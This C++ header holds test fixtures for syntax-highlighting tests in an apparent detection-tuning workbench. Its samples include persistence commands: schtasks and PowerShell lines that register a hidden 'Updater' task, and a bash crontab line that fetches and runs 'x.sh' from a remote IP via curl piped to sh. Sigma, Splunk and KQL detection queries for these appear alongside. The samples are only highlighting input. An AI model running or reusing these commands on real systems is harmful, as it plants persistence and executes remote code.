#pragma once
// Shared by tests/ui/tst_syntaxhighlight.cpp, tst_highlightprefetch.cpp and tst_highlightcache.cpp (Qt 6,
// this build's backend) and tests/kf5/tst_inprocesshighlight.cpp (Qt 5 + KF5, the in-process backend): one
// snippet per language the workbench shows, with the tokens that must be coloured, and a way to read
// colours back from a QTextDocument whichever backend coloured it. Compiles against Qt 5 and Qt 6.

#include <QColor>
#include <QFont>
#include <QString>
#include <QStringList>
#include <QTextBlock>
#include <QTextCharFormat>
#include <QTextDocument>
#include <QTextLayout>
#include <QVector>

namespace HighlightSamples {

struct Sample {
    const char *name;
    QString language;
    QString text;
    QStringList highlighted; // tokens whose first character has a colour or weight of its own
    QStringList plain;       // tokens left in the default style
    QStringList distinct;    // tokens of different roles: no two may look alike
};

inline QVector<Sample> samples() {
    return {
        {"PowerShell command line",
         QStringLiteral("PowerShell"),
         QStringLiteral(
             "Get-ScheduledTask | Where-Object { $_.TaskPath -like '\\Microsoft\\*' } # persistence\n"
             "Register-ScheduledTask -TaskName \"Updater\" -Action $action"),
         {QStringLiteral("Where-Object"), QStringLiteral("$_"), QStringLiteral("'\\Microsoft"),
          QStringLiteral("# persistence"), QStringLiteral("\"Updater\""), QStringLiteral("$action")},
         {QStringLiteral("TaskName")},
         {}},
        {"cmd command line",
         QStringLiteral("MS-DOS Batch"),
         QStringLiteral(
             "@echo off\n"
             "schtasks /create /tn \"\\Microsoft\\Windows\\Updater\" /tr \"C:\\ProgramData\\upd.exe\" "
             "/sc onlogon /ru SYSTEM\n"
             "rem persistence\n"
             "set X=%APPDATA%\\upd.exe"),
         {QStringLiteral("echo off"), QStringLiteral("/create"), QStringLiteral("\"\\Microsoft"),
          QStringLiteral("rem persistence"), QStringLiteral("set"), QStringLiteral("APPDATA")},
         {QStringLiteral("schtasks"), QStringLiteral("onlogon")},
         {}},
        {"bash command line",
         QStringLiteral("Bash"),
         QStringLiteral(
             "#!/bin/bash\n"
             "(crontab -l; echo \"*/5 * * * * curl -s http://203.0.113.7/x.sh | sh\") | crontab -\n"
             "if [ -n \"$HOME\" ]; then echo ok; fi"),
         {QStringLiteral("#!/bin/bash"), QStringLiteral("crontab"), QStringLiteral("echo"),
          QStringLiteral("\"*/5"), QStringLiteral("if"), QStringLiteral("HOME")},
         {QStringLiteral("ok")},
         {}},
        {"JSON record, trailing newline",
         QStringLiteral("JSON"),
         QStringLiteral("{\"EventID\": 4698, \"TaskName\": \"\\\\Updater\", \"Enabled\": true,\n"
                        " \"process\": {\"name\": \"schtasks.exe\"}}\n"),
         {QStringLiteral("\"EventID\""), QStringLiteral("4698"), QStringLiteral("true"),
          QStringLiteral("\"schtasks.exe\"")},
         {},
         {}},
        {"XML record",
         QStringLiteral("XML"),
         QStringLiteral("<Event xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\">\n"
                        "  <System><EventID>4698</EventID></System>\n"
                        "  <!-- task registered -->\n"
                        "</Event>"),
         {QStringLiteral("Event"), QStringLiteral("xmlns"), QStringLiteral("\"http:"),
          QStringLiteral("<!--")},
         {QStringLiteral("4698")},
         {}},
        {"Sigma rule",
         QStringLiteral("YAML"),
         QStringLiteral("title: Scheduled Task Creation\n"
                        "logsource:\n"
                        "  product: windows\n"
                        "detection:\n"
                        "  selection:\n"
                        "    Image|endswith: '\\schtasks.exe'\n"
                        "  condition: selection  # tuned\n"),
         {QStringLiteral("title"), QStringLiteral("Scheduled Task"), QStringLiteral("'\\schtasks.exe'"),
          QStringLiteral("# tuned")},
         {},
         {}},
        {"macros.conf as INI",
         QStringLiteral("INI Files"),
         QStringLiteral("[tb_t1053_filter]\n"
                        "definition = NOT (process_name=\"schtasks.exe\")\n"
                        "iseval = 0\n"
                        "# tuned by tunebench"),
         {QStringLiteral("[tb_t1053_filter]"), QStringLiteral("definition"), QStringLiteral("iseval"),
          QStringLiteral("# tuned")},
         {},
         {}},
        {"SPL search",
         QStringLiteral("Splunk SPL"),
         QStringLiteral(
             "index=wineventlog sourcetype=\"WinEventLog:Security\" EventCode=4698 `tb_t1053_filter`\n"
             "``` tuned ```\n"
             "| eval risky=if(match(TaskContent, \"(?i)-enc\"), 1, 0)\n"
             "| stats count dc(host) AS hosts BY user\n"
             "| where risky=1 AND hosts<5"),
         {QStringLiteral("index"), QStringLiteral("wineventlog"), QStringLiteral("\"WinEventLog:Security\""),
          QStringLiteral("EventCode"), QStringLiteral("4698"), QStringLiteral("`tb_t1053_filter`"),
          QStringLiteral("``` tuned ```"), QStringLiteral("| eval"), QStringLiteral("eval"),
          QStringLiteral("if"), QStringLiteral("match"), QStringLiteral("stats"), QStringLiteral("count"),
          QStringLiteral("dc"), QStringLiteral("AS"), QStringLiteral("AND"), QStringLiteral("where")},
         {QStringLiteral("TaskContent"), QStringLiteral("host"), QStringLiteral("user")},
         {QStringLiteral("index"), QStringLiteral("wineventlog"), QStringLiteral("\"WinEventLog:Security\""),
          QStringLiteral("4698"), QStringLiteral("`tb_t1053_filter`"), QStringLiteral("``` tuned ```"),
          QStringLiteral("| eval"), QStringLiteral("eval"), QStringLiteral("match")}},
        {"macros.conf stanza",
         QStringLiteral("Splunk Macros"),
         QStringLiteral("[tb_t1053_filter(1)]\n"
                        "args = rule\n"
                        "definition = search NOT (process_name=\"schtasks.exe\" AND rule=$rule$) \\\n"
                        "    | where isnull(allowed)\n"
                        "iseval = 0\n"
                        "# written by tunebench"),
         {QStringLiteral("[tb_t1053_filter(1)]"), QStringLiteral("args"), QStringLiteral("definition"),
          QStringLiteral("search"), QStringLiteral("process_name"), QStringLiteral("\"schtasks.exe\""),
          QStringLiteral("$rule$"), QStringLiteral("where"), QStringLiteral("isnull"),
          QStringLiteral("# written")},
         {QStringLiteral("allowed")},
         {QStringLiteral("definition"), QStringLiteral("\"schtasks.exe\""), QStringLiteral("$rule$"),
          QStringLiteral("\\\n"), QStringLiteral("isnull"), QStringLiteral("# written")}},
        {"KQL query",
         QStringLiteral("KQL"),
         QStringLiteral("// scheduled tasks created by PowerShell\n"
                        "DeviceProcessEvents\n"
                        "| where Timestamp > ago(7d) and FileName =~ \"schtasks.exe\"\n"
                        "| where ProcessCommandLine has_any (\"/create\", @\"C:\\Temp\")\n"
                        "| project-away ReportId\n"
                        "| summarize count() by DeviceName, bin(Timestamp, 1h)"),
         {QStringLiteral("// scheduled"), QStringLiteral("DeviceProcessEvents"), QStringLiteral("where"),
          QStringLiteral("ago"), QStringLiteral("7d"), QStringLiteral("and"), QStringLiteral("=~"),
          QStringLiteral("\"schtasks.exe\""), QStringLiteral("has_any"), QStringLiteral("@\"C:\\Temp\""),
          QStringLiteral("project-away"), QStringLiteral("summarize"), QStringLiteral("count"),
          QStringLiteral("bin")},
         {QStringLiteral("Timestamp"), QStringLiteral("FileName"), QStringLiteral("ReportId")},
         {QStringLiteral("// scheduled"), QStringLiteral("DeviceProcessEvents"), QStringLiteral("where"),
          QStringLiteral("ago"), QStringLiteral("7d"), QStringLiteral("=~"),
          QStringLiteral("\"schtasks.exe\"")}},
    };
}

// The sample of `language` (a definition name); there is one for each.
inline const Sample &sampleFor(const QString &language) {
    static const QVector<Sample> all = samples();
    for (const Sample &sample : all) {
        if (sample.language == language)
            return sample;
    }
    qFatal("no sample for %s", qPrintable(language));
}

struct Span {
    int start = 0;
    int length = 0;
    QTextCharFormat format;
};

// Every run of text with a format of its own, in document positions: the layout formats a
// QSyntaxHighlighter adds (in-process backend) and the character formats setHtml() leaves (tool backend).
inline QVector<Span> spans(const QTextDocument *document) {
    QVector<Span> result;
    for (QTextBlock block = document->begin(); block.isValid(); block = block.next()) {
        const auto formats = block.layout()->formats();
        for (const QTextLayout::FormatRange &range : formats)
            result.append({block.position() + range.start, range.length, range.format});
        for (auto it = block.begin(); !it.atEnd(); ++it) {
            const QTextFragment fragment = it.fragment();
            result.append({fragment.position(), fragment.length(), fragment.charFormat()});
        }
    }
    return result;
}

// The Breeze themes' normal text colours. The in-process highlighter paints normal text with them,
// the tool's HTML leaves it uncoloured: both count as "no colour of its own".
inline bool isNormalTextColour(const QColor &colour) {
    return colour == QColor(0x1f, 0x1c, 0x1b) || colour == QColor(0xcf, 0xcf, 0xc2);
}

// How the character at `position` looks: "#rrggbb" when it has a colour of its own, plus " bold" and
// " italic"; empty in the default style.
inline QString styleAt(const QTextDocument *document, int position) {
    QColor colour;
    bool bold = false;
    bool italic = false;
    const QVector<Span> all = spans(document);
    for (const Span &span : all) {
        if (position < span.start || position >= span.start + span.length)
            continue;
        if (span.format.foreground().style() != Qt::NoBrush &&
            !isNormalTextColour(span.format.foreground().color()))
            colour = span.format.foreground().color();
        bold = bold || span.format.fontWeight() > QFont::Normal;
        italic = italic || span.format.fontItalic();
    }
    QString style = colour.isValid() ? colour.name() : QString();
    if (bold)
        style += QStringLiteral(" bold");
    if (italic)
        style += QStringLiteral(" italic");
    return style.trimmed();
}

// styleAt() for the first character of the first occurrence of `token`; "<missing>" when absent.
inline QString styleOf(const QTextDocument *document, const QString &token) {
    const int position = int(document->toPlainText().indexOf(token));
    return position < 0 ? QStringLiteral("<missing>") : styleAt(document, position);
}

// The distinct colours in the document, normal text aside.
inline QStringList colours(const QTextDocument *document) {
    QStringList names;
    const QVector<Span> all = spans(document);
    for (const Span &span : all) {
        const QColor colour = span.format.foreground().color();
        if (span.format.foreground().style() != Qt::NoBrush && !isNormalTextColour(colour) &&
            !names.contains(colour.name()))
            names.append(colour.name());
    }
    return names;
}

} // namespace HighlightSamples
